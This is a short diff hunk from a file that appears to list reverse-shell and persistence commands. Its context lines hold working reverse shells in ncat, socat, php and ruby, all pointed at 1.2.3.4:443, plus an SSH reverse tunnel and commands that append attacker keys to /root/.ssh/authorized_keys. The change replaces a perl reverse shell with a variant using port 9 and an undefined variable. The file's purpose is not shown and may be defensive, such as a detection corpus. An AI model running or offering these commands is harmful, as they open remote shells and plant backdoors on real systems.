@@ -75,7 +75,7 @@ ncat 1.2.3.4 443 -e /bin/bash
 socat tcp-connect:1.2.3.4:443 exec:bash,pty,stderr
 php -r '$s=fsockopen("1.2.3.4",443);exec("sh <&3 >&3 2>&3");'
 ruby -rsocket -e 'exit if fork;c=TCPSocket.new("1.2.3.4",443);while(d=c.gets);IO.popen(d){|io|c.print io.read}end'
-perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(443,inet_aton("1.2.3.4")));open(STDIN,">&S");exec("/bin/sh -i");'
+perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(9,$i));open(STDIN,">&S");exec("/bin/sh -i");'
 ssh -R 2222:localhost:22 tunnel@h.tld -N -f
 echo "ssh-rsa AAAA attacker" >> /root/.ssh/authorized_keys
 tee -a ~/.ssh/authorized_keys <<< "ssh-ed25519 AAAA x"
